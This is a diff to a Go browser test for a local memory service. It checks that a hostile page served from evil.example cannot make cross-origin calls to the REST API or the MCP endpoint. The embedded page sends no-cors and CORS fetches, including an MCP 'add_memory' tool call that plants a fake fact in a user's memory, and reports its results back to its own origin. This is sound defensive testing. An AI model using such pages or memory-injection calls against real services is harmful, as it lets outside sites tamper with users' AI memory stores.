@@ -275,7 +275,8 @@ func findChromium() string {
 // attackPage is served from http://evil.example:PORT. It makes the
 // request a hostile page can make without a preflight (a no-cors POST of
 // text/plain), tries to read the profile (a CORS GET), a JSON POST and a
-// DELETE (both need a preflight), then reports what it could see to its
+// DELETE (both need a preflight), the same two kinds of call to MCP at
+// /mcp, then reports what it could see to its
 // own origin. (A no-cors DELETE is not sent at all: no-cors allows only
 // GET, HEAD and POST.)
 const attackPage = `<!doctype html><title>evil</title><script>
@@ -291,6 +292,11 @@ const attackPage = `<!doctype html><title>evil</title><script>
   }
   await tryIt("cors_get", async () => { const r = await fetch(api + "/v1/users/me/state"); return r.status + " " + await r.text(); });
   await tryIt("cors_post", async () => { const r = await fetch(api + "/v1/users/page/episodes", {method: "POST", headers: {"Content-Type": "application/json"}, body}); return String(r.status); });
+  // The same through MCP at /mcp: a no-cors text/plain call, and a JSON
+  // call with the headers an MCP client sends (both need a preflight).
+  const call = (user) => JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "add_memory", arguments: {user_id: user, text: "I just moved to Mordor."}}});
+  await tryIt("nocors_mcp", async () => { const r = await fetch(api + "/mcp", {method: "POST", mode: "no-cors", body: call("me")}); return r.type; });
+  await tryIt("cors_mcp", async () => { const r = await fetch(api + "/mcp", {method: "POST", headers: {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", "Mcp-Protocol-Version": "2025-06-18"}, body: call("pagemcp")}); return r.status + " " + await r.text(); });
   await fetch("/result", {method: "POST", body: JSON.stringify(out)});
 })();
 </script>`
@@ -381,6 +387,9 @@ func TestBrowserCrossSite(t *testing.T) {
 	if out["cors_post"] == "201" || out["cors_post"] == "202" {
 		t.Errorf("the page's JSON POST was served: %q", out["cors_post"])
 	}
+	if strings.HasPrefix(out["cors_mcp"], "200") || out["nocors_mcp"] != "opaque" {
+		t.Errorf("the page's MCP calls: no-cors %q (want opaque: sent, unreadable), JSON %q (want refused)", out["nocors_mcp"], out["cors_mcp"])
+	}
 	if code := s.stop(syscall.SIGTERM); code != 0 {
 		t.Errorf("serve exit %d", code)
 	}
@@ -390,6 +399,9 @@ func TestBrowserCrossSite(t *testing.T) {
 	// The no-cors POST is the page's first request: the one logged.
 	if log := s.stderr(); !strings.Contains(log, "origin="+origin+" method=POST path=/v1/users/me/episodes") {
 		t.Errorf("serve's log does not show the page's refused requests (did they arrive?):\n%s", log)
+	}
+	if got := e.facts("state", "--user", "pagemcp"); len(got) != 0 {
+		t.Errorf("the page's MCP call added facts: %v", got)
 	}
 	if after := e.ok("export"); after != before {
 		t.Errorf("the page changed the store:\nbefore %s\nafter  %s", before, after)
@@ -405,6 +417,9 @@ func TestBrowserCrossSite(t *testing.T) {
 	if !strings.HasPrefix(out["cors_get"], "200 ") || !strings.Contains(out["cors_get"], "Lisbon") {
 		t.Errorf("allowed origin: the page's read: %q, want 200 with Lisbon", out["cors_get"])
 	}
+	if !strings.HasPrefix(out["cors_mcp"], "200 ") || !strings.Contains(out["cors_mcp"], "Mordor") {
+		t.Errorf("allowed origin: the page's MCP call: %q, want 200 with the added fact (the preflight allows MCP's headers)", out["cors_mcp"])
+	}
 	if code := s.stop(syscall.SIGTERM); code != 0 {
 		t.Errorf("serve exit %d", code)
 	}
@@ -416,5 +431,8 @@ func TestBrowserCrossSite(t *testing.T) {
 	}
 	if got := fmt.Sprint(objects(e.facts("state", "--user", "page"))); got != "Mordor" {
 		t.Errorf("the allowed page's user: %s, want Mordor", got)
+	}
+	if got := objects(e.facts("state", "--user", "pagemcp")); got != "Mordor" {
+		t.Errorf("the allowed page's MCP user: %s, want Mordor", got)
 	}
 }
